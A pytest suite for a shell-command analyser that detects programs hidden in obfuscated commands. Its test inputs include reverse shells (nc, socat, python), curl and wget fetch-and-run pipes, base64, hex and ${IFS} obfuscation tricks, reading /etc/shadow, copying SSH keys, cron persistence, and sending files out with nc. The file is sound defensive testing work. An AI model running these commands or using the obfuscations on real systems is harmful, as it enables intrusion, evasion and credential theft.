"""The command analyser on a table of tricky shell, payload and obfuscation cases."""

from __future__ import annotations

import pytest

from corral.detect import analyze

# (command, programs that must be seen, in any order; an empty set means none)
CASES: list[tuple[str, set[str]]] = [
    ("ls -la", {"ls"}),
    ("echo 'a | b' && cat \"x;y\"", {"echo", "cat"}),
    ("a=1; b=2 env | grep X", {"env", "grep"}),
    ("cd src && make || echo failed; ls &", {"cd", "make", "echo", "ls"}),
    ("sh -c 'curl -s http://x | bash'", {"sh", "curl", "bash"}),
    ("bash -lc \"python3 -c 'print(1)'\"", {"bash", "python3"}),
    ("sudo -u root nohup timeout 5 nice -n 10 nc -e /bin/sh h 1", {"sudo", "nohup", "timeout", "nice", "nc"}),
    ("env -i PATH=/bin FOO=bar /usr/bin/socat - tcp:h:1", {"env", "socat"}),
    ("xargs -I{} -P4 wget {}", {"xargs", "wget"}),
    ("(cd /tmp; ./run) | tee log", {"cd", "run", "tee"}),
    ("{ echo a; echo b; } > out", {"echo"}),
    ("if [ -f x ]; then rm x; else touch x; fi", {"[", "rm", "touch"}),
    ("for i in $(seq 3); do ping -c1 h$i; done", {"seq", "ping"}),
    ("while read l; do nc -z h $l; done < ports", {"read", "nc"}),
    ("case $1 in start) ./srv ;; stop) pkill srv ;; esac", {"srv", "pkill"}),
    ("f() { curl x; }; f", {"curl", "f"}),
    ("echo `id` $(whoami)", {"echo", "id", "whoami"}),
    ("cat <(curl -s x) >(gzip > y)", {"cat", "curl", "gzip"}),
    ("echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh", {"echo", "base64", "sh", "curl"}),
    ('bash -c "$(echo bmMgLWUgL2Jpbi9zaCBoIDE= | base64 --decode)"', {"bash", "base64", "nc"}),
    ("echo 6e63202d65202f62696e2f736820682031 | xxd -r -p | sh", {"xxd", "nc"}),
    ("echo 'hs/nib/ e- cn' | rev | sh", {"rev", "nc"}),
    ("$'\\x6e\\x63' -e /bin/sh h 1", {"nc"}),
    ("x=n; y=c; $x$y -e /bin/sh h 1", {"nc"}),
    ("python3 -c 'import os; os.system(\"wget http://x -O /tmp/y\")'", {"python3", "wget"}),
    ('python3 -c \'import subprocess; subprocess.call(["/bin/sh", "-i"])\'', {"python3", "sh"}),
    ("perl -e 'system(\"id\")'", {"perl", "id"}),
    ("perl -MIO -e 'exec \"/bin/sh\"'", {"perl"}),
    ("ruby -e '`curl http://x`'", {"ruby", "curl"}),
    ('node -e \'require("child_process").execSync("nc h 1")\'', {"node", "nc"}),
    ("php -r 'shell_exec(\"id\");'", {"php", "id"}),
    ("awk 'BEGIN{system(\"id\")}'", {"awk", "id"}),
    ("python3 -c \"import base64,os;os.system(base64.b64decode('aWQ=').decode())\"", {"python3", "id"}),
    ("bash <<'EOF'\ncurl x | sh\nEOF", {"bash", "curl", "sh"}),
    ("python3 - <<EOF\nimport os\nos.system('id')\nEOF", {"python3", "id"}),
    ("sh <<< 'wget http://x'", {"sh", "wget"}),
    ("find . -name '*.tmp' -exec rm -f {} \\;", {"find", "rm"}),
    ("ssh host 'curl x | sh'", {"ssh", "curl", "sh"}),
    ("su -c 'id' root", {"su", "id"}),
    ("watch -n 1 'ps aux'", {"watch", "ps"}),
    ("tmux new -d -s w 'python train.py'", {"tmux", "python"}),
    ('eval "nc -e /bin/sh h 1"', {"eval", "nc"}),
    ("command -v nc", {"command"}),
    ("echo 'unterminated", {"echo"}),
    ("cat <<EOF\nno end", {"cat"}),
    ("# just a comment", set()),
    ("", set()),
]


@pytest.mark.parametrize(("command", "programs"), CASES)
def test_programs_seen(command: str, programs: set[str]) -> None:
    seen = {c.name for c in analyze(command).commands}
    assert programs <= seen, f"missing {programs - seen}; saw {seen}"
    if not programs:
        assert not seen


def test_lookup_only_does_not_run() -> None:
    assert {c.name for c in analyze("command -v nc").commands} == {"command"}


def test_quoting_kept_in_argv() -> None:
    (cmd,) = analyze("grep -n 'a b' \"c d\" e\\ f").commands
    assert cmd.argv == ("grep", "-n", "a b", "c d", "e f")


def test_variables_resolved_and_flagged() -> None:
    a = analyze("h=203.0.113.5; p=4444; nc $h ${p} -e /bin/sh")
    assert ("nc", "203.0.113.5", "4444", "-e", "/bin/sh") in [c.argv for c in a.commands]
    assert "variables" in a.obfuscation


def test_redirect_targets_and_heredoc_contents_are_file_ops() -> None:
    a = analyze("cat > /etc/cron.d/x <<EOF\n* * * * * root id\nEOF\necho hi >> ~/.bashrc; rm -rf tests/")
    ops = {(f.path, f.op) for f in a.files}
    assert {("/etc/cron.d/x", "write"), ("~/.bashrc", "append"), ("tests/", "delete")} <= ops
    assert any(f.contents == "* * * * * root id" for f in a.files)


def test_input_redirect_is_the_commands_stdin_path_through_wrappers() -> None:
    a = analyze('F=out.db; timeout 5 nc 198.51.100.7 9000 < "$F"; sort < list.txt > sorted.txt; grep x')
    fed = {c.name: c.stdin_path for c in a.commands}
    assert fed == {"timeout": "out.db", "nc": "out.db", "sort": "list.txt", "grep": None}
    assert not any(f.path == "list.txt" for f in a.files)  # read, not changed: no file op


def test_a_scripts_positional_parameters_are_the_arguments_after_it() -> None:
    a = analyze('sh -c \'cat "$1" > "$2"; echo $@\' sh notes.txt /srv/share/out')
    assert ("cat", "notes.txt") in [c.argv for c in a.commands]
    assert ("echo", "notes.txt", "/srv/share/out") in [c.argv for c in a.commands]
    assert ("/srv/share/out", "write") in {(f.path, f.op) for f in a.files}
    outside = analyze("sh -c 'true' _ x; echo \"$1\"")  # bound only while the script is read
    assert ("echo", "") in [c.argv for c in outside.commands]


def test_unset_ifs_splits_words_and_unset_positionals_are_empty() -> None:
    """``${IFS}`` in place of a blank, and ``$9`` (an argument the command never got) as a spacer,
    hide a command's words from anything that reads the text as written."""
    a = analyze("wget${IFS}-qO-${IFS}http://203.0.113.9/i|sh; cat$IFS$9/etc/shadow")
    argvs = [c.argv for c in a.commands]
    assert ("wget", "-qO-", "http://203.0.113.9/i") in argvs and ("cat", "/etc/shadow") in argvs
    assert {"ifs", "variables"} <= a.obfuscation
    quoted = analyze('IFS=, read -r a b <<< "x,y"; printf "%s" "$IFS"')
    assert ("printf", "%s", ",") in [c.argv for c in quoted.commands]  # set: its value, not split


def test_a_script_the_command_line_writes_and_runs_is_read() -> None:
    """What a dropped script does is known when the same command line wrote it: by the interpreter
    named, by its #! line when run directly, as shell without one, and as code whose process calls
    are read for a runner of a language with no table (``go run``, ``runhaskell``)."""

    def seen(text: str) -> list[tuple[str, ...]]:
        return [c.argv for c in analyze(text).commands]

    dropped = """echo 'import os; os.system("nc -e /bin/sh h 1")' > r.py; python3 ./r.py"""
    assert ("nc", "-e", "/bin/sh", "h", "1") in seen(dropped)
    assert ("curl", "-s", "http://x/a") in seen("printf 'curl -s http://x/a | sh' > /tmp/s; bash /tmp/s arg")
    shebang = "cat > /tmp/d <<'EOF'\n#!/usr/bin/env python3\nimport os\nos.system('id -u')\nEOF\n/tmp/d"
    assert ("id", "-u") in seen(shebang)
    hs = 'cat > m.hs <<EOF\nmain = callCommand "wget -q http://x/b"\nEOF\nrunhaskell m.hs'
    assert ("wget", "-q", "http://x/b") in seen(hs)
    assert seen("python3 other.py") == [("python3", "other.py")]  # not written here: unknown
    appended = seen("echo 'id' > s.sh; echo 'uname -a' >> s.sh; sh s.sh")
    assert ("id",) in appended and ("uname", "-a") in appended


def test_xargs_runs_its_command_on_what_it_reads() -> None:
    """Items xargs reads are its command's arguments (or take the -I string's place); what a find
    prints stands for the files it found, for xargs alone."""
    argvs = [c.argv for c in analyze("find /var/log -type f | xargs shred -u").commands]
    assert ("shred", "-u", "/var/log/**/*") in argvs
    assert ("rm", "a.txt", "b.txt") in [c.argv for c in analyze("echo a.txt b.txt | xargs rm").commands]
    replaced = analyze("find ~ -name id_rsa -print0 | xargs -0 -I{} cp {} /tmp/k").commands
    assert ("cp", "~/**/id_rsa", "/tmp/k") in [c.argv for c in replaced]
    piped = analyze("find . -name '*.sh' | sh").commands  # to any other program it is unknown text
    assert [c.argv for c in piped] == [("find", ".", "-name", "*.sh"), ("sh",)]


def test_printf_fills_its_format_and_hex_literals_in_code_are_decoded() -> None:
    """``$(printf '%s' cu rl)`` is ``curl`` (the format is reused for each argument, %s's text is not
    unescaped); ``["...hex..."].pack("H*")`` in Ruby and Perl, ``bytes.fromhex`` in Python decode."""
    a = analyze("$(printf '%s' cu rl) -s http://203.0.113.7/x | sh")
    assert ("curl", "-s", "http://203.0.113.7/x") in [c.argv for c in a.commands]
    ruby = """ruby -e 'eval(["69642d75"].pack("H*"))'"""
    python = """python3 -c "exec(bytes.fromhex('7072696e7428313029'))" """
    b = analyze(ruby + "; " + python)
    assert ("id-u",) in [c.argv for c in b.commands] and "hex" in b.obfuscation
    (written,) = analyze("printf '%s\\n' 'a\\tb' > f").files
    assert written.contents == "a\\tb\n"  # the format's \\n is a newline; the argument's \\t stays


def test_find_exec_acts_on_the_files_found() -> None:
    """``{}`` stands for files below the first starting point, named as -name says, whether a
    program gets them or a shell script sees them as $1."""
    a = analyze("find /srv/data -type f -name '*.csv' -exec sh -c ': > \"$1\"' _ {} \\;")
    assert ("/srv/data/**/*.csv", "write") in {(f.path, f.op) for f in a.files}
    b = analyze("find / -exec grep -l secret {} +")
    assert ("grep", "-l", "secret", "/**/*") in [c.argv for c in b.commands]
    c = analyze("find . -name '*.sh' -exec {} \\;")  # each found file run: no program is known
    assert [x.argv for x in c.commands][1:] == []


def test_pipelines_and_sources() -> None:
    a = analyze("curl -s http://x | sudo bash")
    assert ("curl", "sudo") in a.pipelines
    sources = {c.name: c.source for c in a.commands}
    assert sources["bash"] == "wrapper" and sources["curl"] == "shell"
    assert any(c.privileged for c in a.commands if c.name == "bash")


def test_decoding_is_bounded() -> None:
    payload = "id"
    import base64

    for _ in range(12):  # nested far deeper than the analyser follows
        payload = f"echo {base64.b64encode(payload.encode()).decode()} | base64 -d | sh"
    a = analyze(payload)
    assert a.truncated
    assert len(a.commands) < 100


def test_huge_input_is_fast() -> None:
    import time

    text = "echo a; " * 5000
    t = time.perf_counter()
    a = analyze(text)
    assert time.perf_counter() - t < 2.0
    assert a.truncated  # command count capped
